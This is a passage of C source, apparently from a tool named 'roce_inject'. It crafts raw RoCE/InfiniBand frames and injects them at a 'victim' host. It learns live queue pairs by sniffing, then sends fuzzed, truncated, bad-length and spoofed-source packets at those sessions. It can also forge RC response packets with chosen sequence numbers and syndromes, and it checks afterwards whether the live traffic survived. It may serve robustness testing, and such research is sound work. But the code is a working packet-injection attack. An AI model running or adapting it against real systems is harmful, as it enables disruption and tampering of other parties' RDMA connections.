static size_t build_one(uint8_t *f, enum cls c)
{
	uint8_t ib[MAX_FRAME];
	const struct addr *dst = &victim4, *src = &self4;
	bool bad_icrc = false, v6 = victim6.family && rnd(4) == 0;
	size_t iblen, n;
	uint32_t qpn;
	uint8_t op;

	if (v6) {
		dst = &victim6;
		src = &self6;
	}
	switch (c) {
	case C_SHAPED:
	case C_BADICRC:
	case C_BADLEN:
		op = pick_op();
		qpn = pick_qpn(rnd(2));
		iblen = ib_build(ib, op, qpn, ntargets ? pick_psn(&targets[rnd(ntargets)], op) :
					  rnd(1 << 24));
		bad_icrc = c == C_BADICRC;
		break;
	case C_ANYOP:
		ib[0] = rnd(256);
		rnd_bytes(ib + 1, 11);
		put_be32(ib + 4, pick_qpn(rnd(2)));
		iblen = BTH_LEN + rnd(80);
		rnd_bytes(ib + BTH_LEN, iblen - BTH_LEN);
		break;
	case C_TRUNC: {
		bool valid;
		uint8_t *ip;
		size_t iplen = v6 ? 40 : 20;

		iblen = next_trunc(ib, &valid);
		if (valid)
			break;
		/*
		 * Without a valid ICRC (or too short to have one): the
		 * cut is the whole UDP payload, with correct IP and UDP
		 * lengths, so it still reaches the RoCE receive path.
		 */
		n = frame_build(f, src, dst, ib, iblen, false);
		ip = f + 14;
		n -= ICRC_LEN;
		if (v6)
			put_be16(ip + 4, n - 14 - 40);
		else {
			put_be16(ip + 2, n - 14);
			put_be16(ip + 10, 0);
			put_be16(ip + 10, csum_fold(csum_add(0, ip, 20)));
		}
		put_be16(ip + iplen + 4, n - 14 - iplen);
		put_be16(ip + iplen + 6, 0);
		if (v6) {
			uint32_t s = csum_add(0, ip + 8, 32) + 17 + (n - 14 - iplen);

			s = csum_add(s, ip + iplen, n - 14 - iplen);
			put_be16(ip + iplen + 6, csum_fold(s) ? csum_fold(s) : 0xffff);
		}
		return n;
	}
	case C_SPOOF:
	default: {
		const struct target *t;

		/* where the live QPs stand now */
		sniff_drain();
		t = ntargets ? &targets[rnd(ntargets)] : NULL;
		src = &spoof[rnd(nspoof)];
		dst = src->family == AF_INET6 ? &victim6 : &victim4;
		op = pick_op() & 0x1f;		/* RC */
		qpn = t ? t->qpn : pick_qpn(false);
		iblen = ib_build(ib, op, qpn, t ? pick_psn(t, op) : rnd(1 << 24));
		/* a plausible packet: BTH reserved fields clean, no TVer */
		ib[1] &= 0xf0;
		ib[4] = 0;
		put_be16(ib + 2, 0xffff);
		break;
	}
	}
	n = frame_build(f, src, dst, ib, iblen, bad_icrc);
	if (c == C_BADLEN) {
		uint8_t *ip = f + 14;
		size_t iplen = src->family == AF_INET ? 20 : 40;
		int delta = (int)rnd(64) - 32;

		if (rnd(2)) {		/* UDP length */
			put_be16(ip + iplen + 4, (ip[iplen + 4] << 8 | ip[iplen + 5]) + delta);
			put_be16(ip + iplen + 6, 0);
		} else if (src->family == AF_INET) {
			put_be16(ip + 2, (ip[2] << 8 | ip[3]) + delta);
			put_be16(ip + 10, 0);
			put_be16(ip + 10, csum_fold(csum_add(0, ip, 20)));
		} else {
			put_be16(ip + 4, (ip[4] << 8 | ip[5]) + delta);
		}
		/* and sometimes the frame itself cut short */
		if (rnd(2) && n > 14 + iplen + 8)
			n -= rnd(n - (14 + iplen + 8));
	}
	return n;
}

/* --- forged responses (-F) ------------------------------------------------ */

#define MAX_FORGE	32

struct forge {
	uint32_t qpn, psn, payload;
	uint8_t op, syndrome;
};

static struct forge forges[MAX_FORGE];
static int nforges;

/* QPN:PSN:OPCODE:PAYLOAD[:SYNDROME] into the next forge; -1 if malformed */
static int forge_parse(const char *spec)
{
	unsigned long v[5] = { 0, 0, 0, 0, 0x1f };
	const char *p = spec;
	char *end;
	int i;

	if (nforges == MAX_FORGE)
		return -1;
	for (i = 0; i < 5; i++) {
		v[i] = strtoul(p, &end, 0);
		if (end == p)
			return -1;
		if (!*end)
			break;
		if (*end != ':')
			return -1;
		p = end + 1;
	}
	if (i < 3 || i == 5 || v[0] > 0xffffff || v[1] > 0xffffff ||
	    v[2] < 13 || v[2] > 18 || v[3] > 1024 || v[4] > 0xff)
		return -1;
	forges[nforges++] = (struct forge){
		.qpn = v[0], .psn = v[1], .op = v[2], .payload = v[3],
		.syndrome = v[4],
	};
	return 0;
}

/*
 * The IB packet of @fg: a clean BTH (no solicited event, no migration,
 * TVer 0, the default P_Key, no AckReq), the extension headers of RC
 * opcode @fg->op (IBA 9.3: AETH, AtomicAckETH), the payload and its pad.
 */
static size_t forge_build(uint8_t *ib, const struct forge *fg)
{
	unsigned int ext = op_ext[fg->op & 0x1f];
	unsigned int pad = (4 - fg->payload % 4) % 4;
	size_t n = BTH_LEN;

	memset(ib, 0, BTH_LEN);
	ib[0] = fg->op;
	ib[1] = pad << 4;
	put_be16(ib + 2, 0xffff);
	put_be32(ib + 4, fg->qpn);
	put_be32(ib + 8, fg->psn);
	if (ext & X_AETH) {
		/* the MSN is not checked against anything: 0 */
		put_be32(ib + n, (uint32_t)fg->syndrome << 24);
		n += 4;
	}
	if (ext & X_ATOMICACK) {
		memset(ib + n, 0x5a, 8);
		n += 8;
	}
	memset(ib + n, 0xbd, fg->payload);
	n += fg->payload;
	memset(ib + n, 0, pad);
	return n + pad;
}

/* send every forge once; 0 iff all went out */
static int forge_send(void)
{
	uint8_t f[MAX_FRAME + 100], ib[MAX_FRAME];
	size_t n;
	int i;

	clean_frames = true;
	for (i = 0; i < nforges; i++) {
		n = frame_build(f, &self4, &victim4, ib,
				forge_build(ib, &forges[i]), false);
		if (n < 60) {
			memset(f + n, 0, 60 - n);
			n = 60;
		}
		if (send_frame(f, n))
			return 1;
		printf("forged: qpn %#x psn %#x opcode %u payload %u syndrome %#x\n",
		       forges[i].qpn, forges[i].psn, forges[i].op,
		       forges[i].payload, forges[i].syndrome);
	}
	printf("forged %d frames\n", nforges);
	return 0;
}

/* --- setup ------------------------------------------------------------------ */

static int parse_addr(const char *s, struct addr *a)
{
	memset(a, 0, sizeof(*a));
	if (inet_pton(AF_INET, s, a->a) == 1) {
		a->family = AF_INET;
		return 0;
	}
	if (inet_pton(AF_INET6, s, a->a) == 1) {
		a->family = AF_INET6;
		return 0;
	}
	fprintf(stderr, "bad address %s\n", s);
	return -1;
}

static int if_setup(const char *ifname)
{
	struct sockaddr_ll sll = { .sll_family = AF_PACKET };
	struct ifreq ifr = {};

	tx_fd = socket(AF_PACKET, SOCK_RAW, 0);
	sniff_fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
	if (tx_fd < 0 || sniff_fd < 0) {
		perror("packet socket");
		return -1;
	}
	snprintf(ifr.ifr_name, sizeof(ifr.ifr_name), "%s", ifname);
	if (ioctl(tx_fd, SIOCGIFINDEX, &ifr) < 0) {
		perror(ifname);
		return -1;
	}
	ifindex = ifr.ifr_ifindex;
	if (ioctl(tx_fd, SIOCGIFMTU, &ifr) < 0) {
		perror("SIOCGIFMTU");
		return -1;
	}
	ib_max = ifr.ifr_mtu - 40 - 8 - ICRC_LEN;
	if (ib_max > MAX_FRAME - 200)
		ib_max = MAX_FRAME - 200;
	sll.sll_protocol = htons(ETH_P_ALL);
	sll.sll_ifindex = ifindex;
	if (bind(sniff_fd, (struct sockaddr *)&sll, sizeof(sll)) < 0) {
		perror("bind");
		return -1;
	}
	return 0;
}

/* the victim's MAC from the neighbour table if the wire showed none */
static int victim_mac_from_arp(const char *ip)
{
	char line[256], a[64], hw[64];
	unsigned int m[6];
	FILE *f = fopen("/proc/net/arp", "r");

	if (!f)
		return -1;
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, "%63s %*s %*s %63s", a, hw) != 2 || strcmp(a, ip))
			continue;
		if (sscanf(hw, "%x:%x:%x:%x:%x:%x", &m[0], &m[1], &m[2], &m[3],
			   &m[4], &m[5]) == 6) {
			for (int i = 0; i < 6; i++)
				victim_mac[i] = m[i];
			have_victim_mac = true;
		}
	}
	fclose(f);
	return have_victim_mac ? 0 : -1;
}

static int self_addrs(const char *ifname)
{
	char line[256];
	FILE *p;

	p = fopen("/proc/net/if_inet6", "r");
	while (p && fgets(line, sizeof(line), p)) {
		char hex[40], dev[32];
		unsigned int scope;

		if (sscanf(line, "%32s %*x %*x %x %*x %31s", hex, &scope, dev) != 3 ||
		    strcmp(dev, ifname) || scope != 0)
			continue;
		self6.family = AF_INET6;
		for (int i = 0; i < 16; i++) {
			unsigned int b;

			sscanf(hex + 2 * i, "%2x", &b);
			self6.a[i] = b;
		}
	}
	if (p)
		fclose(p);
	{
		struct ifreq ifr = {};
		int fd = socket(AF_INET, SOCK_DGRAM, 0);

		snprintf(ifr.ifr_name, sizeof(ifr.ifr_name), "%s", ifname);
		if (fd < 0 || ioctl(fd, SIOCGIFADDR, &ifr) < 0) {
			perror("SIOCGIFADDR");
			return -1;
		}
		close(fd);
		self4.family = AF_INET;
		memcpy(self4.a, &((struct sockaddr_in *)&ifr.ifr_addr)->sin_addr, 4);
	}
	return 0;
}

static void usage(void)
{
	fprintf(stderr,
		"usage: roce_inject --selftest [--pcap FILE]\n"
		"       roce_inject -i IF -t VICTIM4 [-T VICTIM6] [-n COUNT] [-s SEED]\n"
		"                   [-l SECS] [-q QPN[:PSN]]... [-S SPOOF]... [-w USEC]\n"
		"                   [-c CLASS] [-o OPCODE]\n"
		"       roce_inject -i IF -t VICTIM4 -F QPN:PSN:OPCODE:PAYLOAD[:SYNDROME]...\n");
	exit(2);
}

int main(int argc, char **argv)
{
	static const struct option longopts[] = {
		{ "selftest", no_argument, NULL, 'X' },
		{ "pcap", required_argument, NULL, 'P' },
		{ }
	};
	const char *ifname = NULL, *pcap = NULL, *v4 = NULL;
	unsigned long count = 10000, i, weights[C_NCLS];
	unsigned int wait_us = 0;
	double learn = 2;
	bool do_selftest = false;
	uint64_t seed = 0;
	uint8_t f[MAX_FRAME + 100];
	int opt, c, only_cls = -1;

	crc_table_init(crc_table, 0xedb88320u);
	while ((opt = getopt_long(argc, argv, "i:t:T:n:s:l:q:S:w:c:o:F:", longopts, NULL)) != -1) {
		switch (opt) {
		case 'F':
			if (forge_parse(optarg))
				usage();
			break;
		case 'c':
			for (c = 0; c < C_NCLS; c++)
				if (!strcmp(optarg, cls_name[c]))
					only_cls = c;
			if (only_cls < 0)
				usage();
			break;
		case 'o': only_op = strtoul(optarg, NULL, 0) & 0xff; break;
		case 'X': do_selftest = true; break;
		case 'P': pcap = optarg; break;
		case 'i': ifname = optarg; break;
		case 't': v4 = optarg; if (parse_addr(optarg, &victim4)) usage(); break;
		case 'T': if (parse_addr(optarg, &victim6)) usage(); break;
		case 'n': count = strtoul(optarg, NULL, 0); break;
		case 's': seed = strtoull(optarg, NULL, 0); break;
		case 'l': learn = atof(optarg); break;
		case 'w': wait_us = strtoul(optarg, NULL, 0); break;
		case 'q': {
			char *colon;
			struct target *t = target_get(strtoul(optarg, &colon, 0) & 0xffffff);

			if (t && *colon == ':')
				t->psn_in = t->psn_out = strtoul(colon + 1, NULL, 0) & 0xffffff;
			break;
		}
		case 'S':
			if (nspoof == MAX_SPOOF || parse_addr(optarg, &spoof[nspoof++]))
				usage();
			break;
		default: usage();
		}
	}
	if (do_selftest)
		return selftest(pcap);
	if (!ifname || !v4 || victim4.family != AF_INET)
		usage();
	if (!seed) {
		struct timespec ts;

		clock_gettime(CLOCK_REALTIME, &ts);
		seed = (uint64_t)ts.tv_sec * 1000000007ull ^ ts.tv_nsec ^ getpid();
	}
	printf("seed %llu\n", (unsigned long long)seed);
	rng_set(seed ? seed : 1);
	if (selftest(NULL))
		return 1;
	if (if_setup(ifname) || self_addrs(ifname))
		return 1;
	if (nforges) {
		if (victim_mac_from_arp(v4)) {
			fprintf(stderr, "no neighbour entry for %s\n", v4);
			return 1;
		}
		return forge_send();
	}
	if (!nspoof) {
		/* the attacker itself, a third host, the victim's own */
		spoof[nspoof++] = self4;
		parse_addr("192.0.2.77", &spoof[nspoof++]);
		spoof[nspoof++] = victim4;
		if (victim6.family && self6.family) {
			spoof[nspoof++] = self6;
			parse_addr("2001:db8::77", &spoof[nspoof++]);
		}
	}
	if (victim6.family && !self6.family)
		victim6.family = 0;
	if (learn > 0)
		sniff_for(learn);
	if (!have_victim_mac && victim_mac_from_arp(v4)) {
		fprintf(stderr, "the victim's MAC address is unknown (no RoCE frame from it, no ARP entry)\n");
		return 1;
	}
	printf("victim %02x:%02x:%02x:%02x:%02x:%02x, %d live QP(s) learned:",
	       victim_mac[0], victim_mac[1], victim_mac[2], victim_mac[3],
	       victim_mac[4], victim_mac[5], ntargets);
	for (c = 0; c < ntargets; c++)
		printf(" qpn %#x psn %#x/%#x (%lu frames)", targets[c].qpn,
		       targets[c].psn_in, targets[c].psn_out, targets[c].seen);
	printf("\n");
	fflush(stdout);
	learning = false;

	weights[C_SHAPED] = 30;
	weights[C_ANYOP] = 10;
	weights[C_TRUNC] = 25;
	weights[C_SPOOF] = 25;
	weights[C_BADICRC] = 5;
	weights[C_BADLEN] = 5;
	for (i = 0; i < count; i++) {
		unsigned long w = rnd(100), acc = 0;
		size_t n;

		for (c = 0; c < C_NCLS - 1; c++) {
			acc += weights[c];
			if (w < acc)
				break;
		}
		if (only_cls >= 0)
			c = only_cls;
		n = build_one(f, c);
		if (n < 60) {
			/* the minimum Ethernet frame: padding after the IP datagram */
			memset(f + n, 0, 60 - n);
			n = 60;
		}
		if (send_frame(f, n))
			return 1;
		sent[c]++;
		if ((i & 63) == 63) {
			sniff_drain();
			if (wait_us)
				usleep(wait_us);
		}
	}
	printf("sent %lu frames:", count);
	for (c = 0; c < C_NCLS; c++)
		printf(" %s %lu", cls_name[c], sent[c]);
	printf("\n");
	/* does the live traffic still flow? */
	for (c = 0; c < ntargets; c++)
		targets[c].seen = 0;
	sniff_for(learn > 0 ? learn : 2);
	for (c = 0; c < ntargets; c++)
		printf("live qpn %#x afterwards: %lu frames to it in %.0f s, psn %#x\n",
		       targets[c].qpn, targets[c].seen, learn > 0 ? learn : 2,
		       targets[c].psn_in);
	return 0;
}
